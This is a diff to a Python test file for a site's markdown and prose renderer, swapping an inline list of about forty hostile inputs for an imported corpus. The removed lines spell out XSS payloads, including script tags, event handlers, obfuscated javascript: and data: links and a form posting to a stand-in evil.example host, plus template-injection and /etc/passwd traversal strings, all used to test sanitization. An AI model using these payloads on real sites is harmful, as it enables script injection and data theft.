@@ -8,6 +8,7 @@ from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from noticeboard.site import prose
+from tests.corpus.markup import VECTORS
 
 SCHEME = re.compile(r"[a-zA-Z][a-zA-Z0-9+.-]*:")
 
@@ -41,51 +42,7 @@ class Shown(HTMLParser):
         return "".join(token for token in self.tokens if not re.fullmatch("</?[a-z0-9]+>", token))
 
 
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<img src=x onerror=alert(1)>",
-    "<svg/onload=alert(1)>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<a href='javascript:alert(1)'>点</a>",
-    "<style>*{display:none}</style>",
-    "<base href='//evil.example/'>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<form action=//evil.example><input name=a></form>",
-    "<!-- <script> --><script>alert(1)</script>",
-    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "[点](javascript:alert(1))",
-    "[点](JaVaScRiPt:alert(1))",
-    "[点](java&#x0A;script:alert(1))",
-    "[点](&#106;avascript:alert(1))",
-    "[点](javascript&colon;alert(1))",
-    "[点](vbscript:msgbox(1))",
-    "[点](data:text/html,<script>alert(1)</script>)",
-    "[点](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[点](file:///etc/passwd)",
-    "[点](http://evil.example/)",
-    "[点](<javascript:alert(1)>)",
-    "[点][a]\n\n[a]: javascript:alert(1)",
-    "<javascript:alert(1)>",
-    "![图](https://evil.example/track.png)",
-    "![图](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
-    '[点](https://a.example "onmouseover=alert(1)")',
-    '[点](https://a.example/"onmouseover="alert(1))',
-    "`<script>alert(1)</script>`",
-    "```html\n<script>alert(1)</script>\n```",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "| a | b |\n| --- | --- |\n| <script>alert(1)</script> | [x](javascript:1) |",
-    "> <script>alert(1)</script>",
-    "- <img src=x onerror=alert(1)>",
-    "# <script>alert(1)</script>",
-    "{{ 7 * 7 }}{% include 'x' %}",
-    "{attach}/../../etc/passwd",
-    "[点]({static}/../x)",
-]
-
-
-@pytest.mark.parametrize("text", HOSTILE)
+@pytest.mark.parametrize("text", VECTORS, ids=range(len(VECTORS)))
 @pytest.mark.parametrize("put", ["{}", "前{}后", "**强调** {}", "甲\n\n{}\n\n乙"])
 def test_hostile_text_stays_inert(put: str, text: str) -> None:
     inert(prose.render(put.replace("{}", text)))
